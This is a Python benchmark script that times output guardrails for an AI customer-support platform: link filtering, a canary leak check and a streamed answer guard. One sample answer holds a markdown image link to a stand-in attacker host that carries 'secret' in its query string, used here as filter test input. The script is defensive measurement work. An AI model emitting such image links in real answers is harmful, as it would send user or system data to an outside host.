"""What the output guardrails cost per answer: link filtering and the canary check.

Times ``filter_links`` on a whole answer (the JSON routes) and ``StreamGuard`` fed the
same answer in the simulator's token-sized pieces (the SSE routes: link filter, canary
hold-back and leak check per piece), for an answer full of links and a plain one. Each
figure is the median of 7 runs of 200 answers.

    python benchmarks/guardrails_overhead.py
"""

from __future__ import annotations

import statistics
import sys
import time
from pathlib import Path

sys.path[:0] = [str(Path(__file__).resolve().parents[1] / "platform")]

from ai_platform.governance.guardrails import (  # noqa: E402
    AnswerGuard,
    HostPolicy,
    LeakGuard,
    filter_links,
    new_canary,
)
from ai_platform.llm.simulator.estimate import pieces  # noqa: E402

ANSWERS = {
    "with links": (
        "Your order ORD-1001 has shipped with UPS [1]. See [our guide](/guide/start) and "
        "![x](https://evil.example/p.png?d=secret) for details. "
    )
    * 25,
    "plain": "Your order ORD-1001 has shipped with UPS and should arrive on Tuesday. " * 45,
}
SYSTEM_PROMPT = "You are the customer support agent of an online electronics shop. " * 10
ANSWERS_PER_RUN = 200
RUNS = 7


class _Sink:
    def guardrail(self, event: str) -> None:
        pass


def _median_ms(work: object) -> float:
    assert callable(work)
    times = []
    for _ in range(RUNS):
        started = time.perf_counter()
        for _ in range(ANSWERS_PER_RUN):
            work()
        times.append((time.perf_counter() - started) / ANSWERS_PER_RUN * 1000)
    return statistics.median(times)


def main() -> None:
    hosts = HostPolicy()
    for name, answer in ANSWERS.items():
        parts = pieces(answer)

        def whole(answer: str = answer) -> None:
            filter_links(answer, hosts)

        def streamed(parts: list[str] = parts) -> None:
            guard = AnswerGuard(_Sink(), hosts, LeakGuard(new_canary(), SYSTEM_PROMPT)).stream()
            for part in parts:
                guard.feed(part)
            guard.close()

        whole_ms = _median_ms(whole)
        stream_ms = _median_ms(streamed)
        print(
            f"{name:>10}: {len(answer)} chars, {len(parts)} pieces | whole answer "
            f"{whole_ms:.3f} ms | streamed {stream_ms:.2f} ms "
            f"({stream_ms / len(parts) * 1000:.1f} us per piece)"
        )


if __name__ == "__main__":
    main()
